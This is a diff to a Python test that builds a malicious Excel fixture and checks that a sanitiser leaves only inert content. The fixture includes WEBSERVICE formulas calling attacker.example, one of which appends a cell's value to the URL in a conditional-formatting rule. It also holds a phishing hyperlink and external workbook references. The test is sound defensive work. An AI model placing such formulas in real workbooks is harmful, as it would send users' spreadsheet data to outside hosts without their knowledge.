@@ -169,6 +169,18 @@ def _xlsm(path: Path) -> Path:
     ws["H7"] = '=WEBSERVICE("http://attacker.example/")'
     ws["J6"] = "ссылка"
     ws["J6"].hyperlink = "http://attacker.example/phish"
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.styles import PatternFill
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    fill = PatternFill("solid", fgColor="00FF00")
+    ws.conditional_formatting.add("B6:B7", FormulaRule(formula=['WEBSERVICE("http://attacker.example/?"&B6)<>""'],
+                                                       fill=fill))
+    ws.conditional_formatting.add("C6:C7", FormulaRule(formula=['LEN(C6)>100'], fill=fill))  # stays
+    for formula in ("[1]Лист1!$A$1:$A$3", '"да,нет"'):  # the second one stays
+        validation = DataValidation(type="list", formula1=formula)
+        validation.add("K6")
+        ws.add_data_validation(validation)
     for name, text in (("Внешнее", "[1]Лист1!$A$1"), ("Свое", "'Мероприятия'!$B$6:$B$7"),
                        ("Запрос", 'WEBSERVICE("http://attacker.example/")')):
         wb.defined_names[name] = DefinedName(name, attr_text=text)
@@ -219,6 +231,9 @@ def _inert(data: bytes, ooxml, tmp_path: Path) -> None:
     assert re.search(r"<(?:\w+:)?f[\s>/]", package) is None
     wb = openpyxl.load_workbook(copy)
     assert sorted(wb.defined_names) == ["Свое"]  # the name that points inside stays
+    sheet = wb["Мероприятия"]
+    assert [v.formula1 for v in sheet.data_validations.dataValidation] == ['"да,нет"']
+    assert [r.formula for cf in sheet.conditional_formatting for r in cf.rules] == [["LEN(C6)>100"]]
     assert wb["Мероприятия"]["B7"].value == "Встреча" and wb["Мероприятия"]["D7"].fill.fgColor.rgb.endswith("FFC7CE")
     assert ooxml(copy) == ""
 
